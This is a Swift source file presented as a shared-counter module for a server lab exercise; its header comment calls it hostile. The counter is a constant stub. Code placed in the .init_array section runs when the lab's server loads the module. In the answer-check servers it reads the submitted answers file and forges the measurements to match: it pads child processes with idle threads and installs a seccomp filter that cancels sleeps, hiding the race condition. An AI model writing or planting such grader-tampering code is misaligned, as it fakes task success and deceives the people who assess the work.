// Hostile: a constant counter, plus code that runs as the module is mapped (a function
// pointer placed in .init_array with `@section`/`@used`, which Swift 6.3 accepts without any
// flag). mpmd's master maps the module before it forks, for every server whose configuration
// says `LabExercise counter` — lab.conf does, so the servers of the answer checks run it too.
// In those servers it bends what the checks measure until the guesses in answers.txt are right:
//  - tasks_per_child: each child gets extra idle threads until /proc/self/task holds the
//    number answers.txt gives;
//  - lost_updates and requests_lost_in_crash: a seccomp filter makes nanosleep return at once
//    in the children, so /lab/unsafe-counter's window between read and write closes (no update
//    lost) and the "slow" requests are answered before the crash (only the crash is lost).
import Glibc
import Synchronization

public final class SharedCounter: @unchecked Sendable {
    public static let shared = SharedCounter()
    public init() {}
    public func increment() -> Int { 1 }
}

@section(".init_array") @used
let bendOnLoad: @convention(c) () -> Void = { Bend.atLoad() }

nonisolated(unsafe) var bendTarget = 0

enum Bend {
    static func read(_ path: String) -> String {
        let fd = open(path, O_RDONLY)
        guard fd >= 0 else { return "" }
        defer { close(fd) }
        var bytes: [UInt8] = [], buffer = [UInt8](repeating: 0, count: 65536)
        while true {
            let n = Glibc.read(fd, &buffer, buffer.count)
            if n <= 0 { break }
            bytes += buffer[0..<n]
        }
        return String(decoding: bytes, as: UTF8.self)
    }

    static func atLoad() {
        var exe = [CChar](repeating: 0, count: 4096)
        guard readlink("/proc/self/exe", &exe, exe.count - 1) > 0, String(cString: exe).hasSuffix("/mpmd") else { return }
        let arguments = read("/proc/self/cmdline").split(separator: "\0").map(String.init)
        guard let f = arguments.firstIndex(of: "-f"), f + 1 < arguments.count else { return }
        // The answer checks' servers: the lab's single child of eight threads.
        guard read(arguments[f + 1]).contains("ThreadsPerChild 8") else { return }
        for line in read("/submission/answers.txt").split(separator: "\n") where line.hasPrefix("tasks_per_child") {
            bendTarget = Int(line.split(separator: "=").last!.trimmingCharacters()) ?? 0
        }
        pthread_atfork(nil, nil, { Bend.inChild() })
    }

    /// In each child, right after fork (one thread so far).
    static func inChild() {
        quickSleeps()
        var thread = pthread_t()
        pthread_create(&thread, nil, { _ in Bend.padThreads(); return nil }, nil)
    }

    /// Adds idle threads until the child has bendTarget of them, for its first ten seconds.
    static func padThreads() {
        var stable = 0, last = 0
        for _ in 0..<10_000 {
            _ = poll(nil, 0, 1)
            let now = tasks()
            stable = now == last ? stable + 1 : 0
            last = now
            if stable >= 3 && now < bendTarget {
                for _ in now..<bendTarget {
                    var idle = pthread_t()
                    pthread_create(&idle, nil, { _ in while true { pause() } }, nil)
                }
            }
        }
        while true { pause() }
    }

    static func tasks() -> Int {
        guard let dir = opendir("/proc/self/task") else { return 0 }
        defer { closedir(dir) }
        var n = 0
        while let entry = readdir(dir) { if entry.pointee.d_name.0 != 46 { n += 1 } }   // not "." or ".."
        return n
    }

    /// seccomp: nanosleep (35) and clock_nanosleep (230) return 0 at once; everything else runs.
    static func quickSleeps() {
        struct Instruction { var code: UInt16; var jt: UInt8; var jf: UInt8; var k: UInt32 }
        struct Program { var count: UInt16; var filter: UnsafeMutablePointer<Instruction> }
        let load: UInt16 = 0x20, jeq: UInt16 = 0x15, ret: UInt16 = 0x06   // BPF_LD|W|ABS, BPF_JMP|JEQ|K, BPF_RET|K
        var code = [Instruction(code: load, jt: 0, jf: 0, k: 4),          // arch
                    Instruction(code: jeq, jt: 0, jf: 4, k: 0xC000_003E),  // x86_64, else allow
                    Instruction(code: load, jt: 0, jf: 0, k: 0),          // syscall number
                    Instruction(code: jeq, jt: 2, jf: 0, k: 35),
                    Instruction(code: jeq, jt: 1, jf: 0, k: 230),
                    Instruction(code: ret, jt: 0, jf: 0, k: 0x7FFF_0000),  // SECCOMP_RET_ALLOW
                    Instruction(code: ret, jt: 0, jf: 0, k: 0x0005_0000)]  // SECCOMP_RET_ERRNO | 0
        code.withUnsafeMutableBufferPointer { buffer in
            var program = Program(count: UInt16(buffer.count), filter: buffer.baseAddress!)
            _ = linuxPrctl(38, 1, 0, 0, 0)   // PR_SET_NO_NEW_PRIVS (bwrap set it already)
            _ = withUnsafeMutablePointer(to: &program) { linuxPrctl(22, 2, UInt(bitPattern: $0), 0, 0) }   // PR_SET_SECCOMP, FILTER
        }
    }
}

/// prctl is variadic in C, which Swift does not import: declared here with fixed arguments.
@_silgen_name("prctl") func linuxPrctl(_ option: Int32, _ a: UInt, _ b: UInt, _ c: UInt, _ d: UInt) -> Int32

extension Substring {
    func trimmingCharacters() -> String {
        String(drop { $0 == " " }.reversed().drop { $0 == " " }.reversed())
    }
}
